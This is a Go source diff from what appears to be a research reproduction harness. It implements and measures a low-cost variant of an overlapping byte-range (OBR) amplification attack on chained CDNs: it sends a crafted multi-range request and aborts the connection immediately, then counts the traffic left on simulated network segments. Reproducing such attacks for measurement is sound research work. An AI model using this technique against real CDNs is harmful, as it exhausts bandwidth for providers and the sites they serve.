@@ -1,0 +1,83 @@
+package core
+
+import (
+	"fmt"
+	"time"
+
+	"repro/internal/measure"
+)
+
+// RunOBRAborted performs the §IV-C low-cost OBR variant: the attacker
+// sends the multi-range request and immediately aborts the client-fcdn
+// connection (the paper's Slowloris-style cost reduction — "the
+// attacker is able to consume much smaller resources by actively
+// aborting the client-cdn connection"). The FCDN still completes its
+// upstream pull, so the fcdn-bcdn segment carries the full n-part
+// response while the attacker receives almost nothing.
+//
+// The returned Amplification compares fcdn-bcdn response traffic with
+// what the *attacker* received on the client segment (not bcdn-origin),
+// quantifying the attacker-side cost saving.
+func RunOBRAborted(t *OBRTopology, path string, n int) (*OBRResult, error) {
+	plan := PlanMaxN(t.FCDN.Profile(), t.BCDN.Profile(), path)
+	if n > 0 {
+		plan.N = n
+	}
+	if plan.N < 1 {
+		return nil, fmt.Errorf("obr: no usable n for %s->%s", t.FCDN.Profile().Name, t.BCDN.Profile().Name)
+	}
+	probe := measure.NewProbe(t.FcdnBcdnSeg, t.ClientSeg)
+
+	req := NewAttackRequest(path)
+	req.Headers.Add("Range", BuildOverlappingRange(plan.FirstToken, plan.N))
+	req.Headers.Set("Connection", "close")
+
+	conn, err := t.Net.Dial(t.FCDNAddr, t.ClientSeg)
+	if err != nil {
+		return nil, fmt.Errorf("dial fcdn: %w", err)
+	}
+	if _, err := req.WriteTo(conn); err != nil {
+		conn.Close()
+		return nil, fmt.Errorf("write request: %w", err)
+	}
+	// Abort immediately: the attacker never reads the response.
+	conn.Close()
+
+	// The FCDN's upstream pull continues in the background; wait until
+	// the fcdn-bcdn counter goes quiet.
+	if err := waitQuiescent(func() int64 { return t.FcdnBcdnSeg.Traffic().Down }, 5*time.Second); err != nil {
+		return nil, err
+	}
+	delta := probe.Delta()
+	return &OBRResult{
+		Case:          plan,
+		Amplification: delta,
+	}, nil
+}
+
+// waitQuiescent polls a counter until it stops changing for a few
+// consecutive polls (the background transfer completed or stalled), or
+// the deadline passes with the counter still moving.
+func waitQuiescent(counter func() int64, deadline time.Duration) error {
+	const (
+		poll        = 5 * time.Millisecond
+		quietRounds = 10
+	)
+	var (
+		last  = counter()
+		quiet = 0
+	)
+	for elapsed := time.Duration(0); elapsed < deadline; elapsed += poll {
+		time.Sleep(poll)
+		cur := counter()
+		if cur == last {
+			quiet++
+			if quiet >= quietRounds {
+				return nil
+			}
+			continue
+		}
+		last, quiet = cur, 0
+	}
+	return fmt.Errorf("core: transfer still active after %v", deadline)
+}
